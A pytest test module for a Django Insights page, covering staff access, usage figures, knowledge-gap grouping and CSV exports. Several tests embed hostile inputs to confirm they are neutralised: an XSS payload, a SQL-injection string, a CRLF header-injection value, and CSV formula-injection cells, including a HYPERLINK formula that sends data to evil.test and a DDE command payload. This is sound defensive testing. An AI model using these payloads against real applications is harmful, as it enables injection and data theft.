"""The Insights page (``/insights/``): who may see it, what it counts, how it groups knowledge
gaps, marking one resolved, and its CSV exports, against the real database and embedder."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.contrib.auth.models import Permission
from django.utils import timezone

from accounts.models import AuditEvent
from assistant.insights.models import GapResolution
from assistant.models import Conversation, Feedback
from knowledge.models import Source
from tests.support.insights import ask
from tests.support.knowledge import make_collection

pytestmark = pytest.mark.django_db

VACATION = "How many vacation days do I get per year?"
VACATION_AGAIN = "How many days of vacation do I get each year?"
WIFI = "What is the password of the guest wifi?"


def _grant_reading(user) -> None:
    user.user_permissions.add(Permission.objects.get(codename="read_user_conversations"))


@pytest.fixture
def staff(make_user):
    return make_user(email="insights@example.com", is_staff=True)


@pytest.fixture
def reader_of_texts(staff):
    _grant_reading(staff)
    return staff


@pytest.fixture
def source(admin):
    collection = make_collection("Handbook", everyone=True)
    return Source.objects.create(
        collection=collection, kind=Source.Kind.FILE, name="travel.md", status="ready"
    )


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


# --- who may see it ---------------------------------------------------------------------------


def test_an_anonymous_visitor_is_sent_to_sign_in(client):
    for url in ("/insights/", "/insights/daily.csv"):
        response = client.get(url)
        assert response.status_code == 302 and "/accounts/login/" in response["Location"]


def test_a_person_who_is_not_staff_is_refused_everywhere(client, make_user):
    client.force_login(make_user())
    assert client.get("/insights/").status_code == 403
    assert client.get("/insights/daily.csv").status_code == 403
    assert client.post("/insights/gaps/resolve", {"answer_id": "x"}).status_code == 403
    assert not GapResolution.objects.exists()


def test_the_admin_index_links_to_insights(client, admin):
    client.force_login(admin)
    assert 'href="/insights/"' in client.get("/admin/").content.decode()


# --- usage and feedback -----------------------------------------------------------------------


def test_staff_see_questions_people_origins_latency_and_tokens(client, staff, make_user, source):
    alice, bob = make_user(email="alice@example.com"), make_user(email="bob@example.com")
    ask(alice, "Meal allowance?", cite=source, first_token_ms=100, total_ms=1000)
    ask(alice, "Hotel limit?", cite=source, first_token_ms=300, total_ms=3000, rating=1)
    ask(bob, "From Slack?", origin="slack", prompt_tokens=2000, completion_tokens=200)
    ask(bob, "Long ago?", at=timezone.now() - timedelta(days=60))  # outside 30 days
    client.force_login(staff)

    page = client.get("/insights/")

    assert page.status_code == 200
    data = page.context["data"]
    assert data.totals == {"questions": 3, "people": 2}
    today = data.daily[-1]
    assert (today["questions"], today["people"], today["answers"]) == (3, 2, 3)
    assert (today["first_token_p50"], today["total_p50"], today["total_p95"]) == (300, 2000, 2900)
    assert (today["tokens_in"], today["tokens_out"], today["helpful"]) == (3000, 360, 1)
    assert {r["origin"]: r["questions"] for r in data.origins} == {"web": 2, "slack": 1}
    assert [(r["collection"], r["citations"]) for r in data.collections] == [("Handbook", 2)]
    assert [(r["email"], r["tokens_in"]) for r in data.people] == [
        ("bob@example.com", 2000),
        ("alice@example.com", 1000),
    ]
    assert [r["source"] for r in data.most_cited] == ["travel.md"]
    html = page.content.decode()
    assert html.count('<rect class="bar"') >= 30  # one bar a day
    assert "<script" not in html.split("<main", 1)[1]  # charts are inert SVG


def test_a_year_window_and_a_hostile_days_value(client, staff):
    client.force_login(staff)
    assert len(client.get("/insights/?days=365").context["data"].daily) == 365
    for hostile in ("-1", "100000000", "abc", "30;drop table"):
        assert client.get(f"/insights/?days={hostile}").context["data"].days == 30


def test_a_hostile_days_value_never_reaches_a_csv_files_name(client, staff):
    """The window is written into the download's Content-Disposition: a header line smuggled
    in it, or a value out of range, falls back to the default window."""
    client.force_login(staff)
    for hostile in ("7%0d%0aX-Evil:%201", '7";x=1', "-7", "99999999"):
        response = client.get(f"/insights/daily.csv?days={hostile}")
        assert response.status_code == 200
        assert response["Content-Disposition"] == 'attachment; filename="insights-daily-30d.csv"'
        assert "X-Evil" not in response


def test_staff_without_the_reading_grant_see_figures_but_not_peoples_words(
    client, staff, make_user
):
    person = make_user()
    ask(person, "My secret question?", rating=-1, comment="my private comment")
    client.force_login(staff)

    page = client.get("/insights/").content.decode()

    assert "My secret question?" not in page and "my private comment" not in page
    assert "asked 1 time" in page  # the gap still counts
    assert client.get("/insights/downvotes.csv").status_code == 403
    assert client.get("/insights/gaps.csv").status_code == 403
    assert not AuditEvent.objects.filter(action=AuditEvent.Action.CONVERSATION_VIEWED).exists()


def test_the_downvote_list_shows_what_was_asked_and_every_look_is_audited(
    client, reader_of_texts, make_user, source
):
    person = make_user()
    answer = ask(
        person, "Can I fly business?", cite=source, quote="Economy only.", rating=-1,
        comment="Wrong: managers may.",
    )  # fmt: skip
    client.force_login(reader_of_texts)

    page = client.get("/insights/").content.decode()

    for text in ("Can I fly business?", "Wrong: managers may.", "Economy only.", "travel.md"):
        assert text in page
    assert f"/admin/assistant/conversation/{answer.conversation_id}/change/" in page
    assert f"/knowledge/sources/{source.pk}/" in page
    event = AuditEvent.objects.get(action=AuditEvent.Action.CONVERSATION_VIEWED)
    assert event.actor == reader_of_texts and event.detail["insights"] == "page"


def test_the_conversation_link_opens_the_audited_admin_view(client, admin, make_user):
    person = make_user()
    answer = ask(person, "Why is my laptop slow?", rating=-1)
    _grant_reading(admin)  # a superuser still needs the grant, as in the admin
    client.force_login(admin)
    page = client.get("/insights/").content.decode()
    link = f"/admin/assistant/conversation/{answer.conversation_id}/change/"
    assert link in page

    opened = client.get(link)

    assert opened.status_code == 200 and "Why is my laptop slow?" in opened.content.decode()
    event = AuditEvent.objects.get(target_id=str(answer.conversation_id))
    assert event.action == AuditEvent.Action.CONVERSATION_VIEWED and event.subject == person
    assert event.actor == admin


def test_a_question_containing_markup_renders_inert(client, reader_of_texts, make_user):
    person = make_user()
    attack = '<script>alert(1)</script><img src=x onerror="alert(2)">'
    ask(person, attack, nothing_found=True)
    ask(person, f"Why {attack}?", rating=-1, comment=attack)
    client.force_login(reader_of_texts)

    page = client.get("/insights/").content.decode()

    assert "<script>alert(1)" not in page and "<img src=x" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


# --- knowledge gaps ---------------------------------------------------------------------------


def test_unanswered_questions_are_grouped_by_meaning(client, reader_of_texts, make_user, source):
    person = make_user()
    ask(person, VACATION, nothing_found=True)
    ask(person, VACATION_AGAIN, rating=-1, cite=source)
    ask(person, WIFI, unsupported=True, cite=source)
    ask(person, "Where do I book trains?", cite=source)  # answered well: no gap
    client.force_login(reader_of_texts)

    groups = client.get("/insights/").context["data"].gaps.groups

    by_size = [(g.count, sorted(e["question"] for e in g.examples)) for g in groups]
    assert by_size == [(2, sorted([VACATION, VACATION_AGAIN])), (1, [WIFI])]
    vacation = groups[0]
    assert vacation.reasons == {"nothing_found": 1, "unsupported": 0, "not_helpful": 1}
    assert vacation.collections == ["Handbook"]


def test_marking_a_group_resolved_follows_later_questions_of_that_group(
    client, reader_of_texts, make_user, source
):
    person = make_user()
    earlier = timezone.now() - timedelta(hours=2)
    ask(person, VACATION, nothing_found=True, at=earlier)
    ask(person, VACATION_AGAIN, nothing_found=True, at=earlier)
    ask(person, WIFI, nothing_found=True, at=earlier)
    client.force_login(reader_of_texts)
    group = client.get("/insights/").context["data"].gaps.groups[0]
    assert group.count == 2

    response = client.post(
        "/insights/gaps/resolve",
        {"answer_id": group.answer_id, "source_id": str(source.pk), "days": "30"},
    )

    assert response.status_code == 302
    resolution = GapResolution.objects.get()
    assert (resolution.question_count, resolution.source, resolution.resolved_by) == (
        2,
        source,
        reader_of_texts,
    )
    gaps = client.get("/insights/").context["data"].gaps
    assert [g.representative for g in gaps.groups] == [WIFI]  # the resolved group left the list
    assert (gaps.resolutions[0].later_answered, gaps.resolutions[0].later_failed) == (0, 0)
    assert resolution.question == group.representative

    ask(person, "How many vacation days do I get?", cite=source)  # now answered
    ask(person, "How many vacation days do we get a year?", nothing_found=True)  # still not
    gaps = client.get("/insights/").context["data"].gaps
    state = gaps.resolutions[0]
    assert (state.later_answered, state.later_failed) == (1, 1)
    page = client.get("/insights/").content.decode()
    assert 'data-later="answered">1<' in page and 'data-later="failed">1<' in page


def test_a_resolved_gap_keeps_no_copy_of_the_question_once_its_conversation_is_gone(
    client, reader_of_texts, make_user
):
    """Erasure and retention delete conversations; the resolution must not keep the words."""
    person = make_user()
    answer = ask(person, VACATION, nothing_found=True, at=timezone.now() - timedelta(hours=1))
    client.force_login(reader_of_texts)
    group = client.get("/insights/").context["data"].gaps.groups[0]
    client.post("/insights/gaps/resolve", {"answer_id": group.answer_id}, follow=True)

    Conversation.objects.filter(pk=answer.conversation_id).delete()

    resolution = GapResolution.objects.get()
    assert resolution.question == "" and resolution.question_count == 1
    page = client.get("/insights/").content.decode()
    assert "a group of 1" in page and VACATION not in page


def test_resolving_the_same_group_twice_is_refused_kindly(client, reader_of_texts, make_user):
    person = make_user()
    ask(person, VACATION, nothing_found=True, at=timezone.now() - timedelta(hours=1))
    client.force_login(reader_of_texts)
    group = client.get("/insights/").context["data"].gaps.groups[0]

    client.post("/insights/gaps/resolve", {"answer_id": group.answer_id})
    again = client.post("/insights/gaps/resolve", {"answer_id": group.answer_id}, follow=True)

    assert GapResolution.objects.count() == 1
    assert "That group has changed since the page was loaded" in again.content.decode()


def test_resolving_without_the_reading_grant_never_shows_the_question(client, staff, make_user):
    """Staff without the grant may mark a group resolved, but the confirmation must not hand
    them the words the page keeps from them."""
    ask(make_user(), VACATION, nothing_found=True, at=timezone.now() - timedelta(hours=1))
    client.force_login(staff)
    group = client.get("/insights/").context["data"].gaps.groups[0]

    response = client.post("/insights/gaps/resolve", {"answer_id": group.answer_id}, follow=True)

    page = response.content.decode()
    assert "Marked resolved: a group of 1 questions" in page
    assert "vacation" not in page.lower()
    assert GapResolution.objects.count() == 1


@pytest.mark.parametrize(
    "form",
    [
        {"answer_id": "00000000-0000-0000-0000-000000000000"},
        {"answer_id": "' OR 1=1 --"},
        {"answer_id": "x" * 10_000},
        {},
    ],
    ids=["someone-elses-or-missing-id", "sql-in-id", "oversized-id", "no-id"],
)
def test_resolving_a_group_that_does_not_exist_changes_nothing(client, staff, make_user, form):
    ask(make_user(), VACATION, nothing_found=True)
    client.force_login(staff)

    response = client.post("/insights/gaps/resolve", form, follow=True)

    assert response.status_code == 200
    assert "That group has changed" in response.content.decode()
    assert not GapResolution.objects.exists()


@pytest.mark.parametrize("source_id", ["999999", "abc", "-5"])
def test_resolving_with_a_source_that_does_not_exist_is_refused(
    client, staff, make_user, source_id
):
    ask(make_user(), VACATION, nothing_found=True)
    client.force_login(staff)
    group = client.get("/insights/").context["data"].gaps.groups[0]

    response = client.post(
        "/insights/gaps/resolve",
        {"answer_id": group.answer_id, "source_id": source_id},
        follow=True,
    )

    assert "That source no longer exists" in response.content.decode()
    assert not GapResolution.objects.exists()


# --- sources ----------------------------------------------------------------------------------


def test_sources_uncited_failing_and_stale(client, staff, make_user):
    collection = make_collection("Policies", everyone=True)
    old = timezone.now() - timedelta(days=400)
    cited = Source.objects.create(
        collection=collection, kind="file", name="cited.md", status="ready"
    )
    unused = Source.objects.create(
        collection=collection, kind="file", name="unused.md", status="ready"
    )
    broken = Source.objects.create(
        collection=collection, kind="url", name="https://x.test/", status="failed", error="404"
    )
    Source.objects.filter(pk__in=[cited.pk, unused.pk]).update(created_at=old, indexed_at=old)
    ask(make_user(), "Cited?", cite=cited)
    client.force_login(staff)

    data = client.get("/insights/").context["data"]

    assert [r["source"] for r in data.uncited] == ["unused.md"]
    assert [(r["source"], r["error"]) for r in data.failing] == [(broken.name, "404")]
    assert sorted(r["source"] for r in data.stale) == ["cited.md", "unused.md"]


def test_a_page_checked_daily_but_unchanged_for_a_year_is_stale_and_one_changed_last_week_is_not(
    client, staff
):
    collection = make_collection("Web", everyone=True)
    now = timezone.now()
    unchanged = Source.objects.create(
        collection=collection, kind="url", name="https://x.test/old", status="ready"
    )
    changed = Source.objects.create(
        collection=collection, kind="url", name="https://x.test/new", status="ready"
    )
    Source.objects.filter(pk=unchanged.pk).update(
        created_at=now - timedelta(days=500),
        indexed_at=now - timedelta(days=1),  # re-indexed with the same bytes
        last_checked_at=now - timedelta(hours=2),
        last_changed_at=now - timedelta(days=400),
    )
    Source.objects.filter(pk=changed.pk).update(
        created_at=now - timedelta(days=500),
        indexed_at=now - timedelta(days=500),
        last_checked_at=now - timedelta(hours=2),
        last_changed_at=now - timedelta(days=7),
    )
    client.force_login(staff)

    data = client.get("/insights/").context["data"]

    assert [r["source"] for r in data.stale] == ["https://x.test/old"]


# --- CSV --------------------------------------------------------------------------------------


def test_every_table_exports_as_csv(client, reader_of_texts, make_user, source):
    ask(make_user(), VACATION, nothing_found=True, rating=-1)
    client.force_login(reader_of_texts)
    for table in client.get("/insights/").context["tables"]:
        rows = _csv(client.get(f"/insights/{table}.csv?days=7"))
        assert rows[0], table  # a header at least
    daily = _csv(client.get("/insights/daily.csv?days=7"))
    assert len(daily) == 8 and daily[-1][1] == "1"


def test_an_unknown_table_is_not_found(client, staff):
    client.force_login(staff)
    assert client.get("/insights/passwords.csv").status_code == 404


def test_csv_injection_cells_that_start_a_formula_are_escaped(client, reader_of_texts, make_user):
    person = make_user(email="+1@example.com")
    formula = '=HYPERLINK("http://evil.test/?"&A1,"click")'
    evil = Source.objects.create(
        collection=make_collection("@SUM(1+1)", everyone=True),
        kind="file",
        name="=cmd|' /C calc'!A0",
        status="ready",
    )
    ask(person, formula, nothing_found=True, rating=-1, comment="-2+3")
    ask(person, "Cited?", cite=evil)
    client.force_login(reader_of_texts)

    cells = [
        cell
        for table in ("gaps", "downvotes", "people", "collections", "sources-cited")
        for row in _csv(client.get(f"/insights/{table}.csv"))[1:]
        for cell in row
    ]

    assert "'" + formula in cells and "'-2+3" in cells and "'+1@example.com" in cells
    assert "'@SUM(1+1)" in cells and "'=cmd|' /C calc'!A0" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    assert Feedback.objects.count() == 1
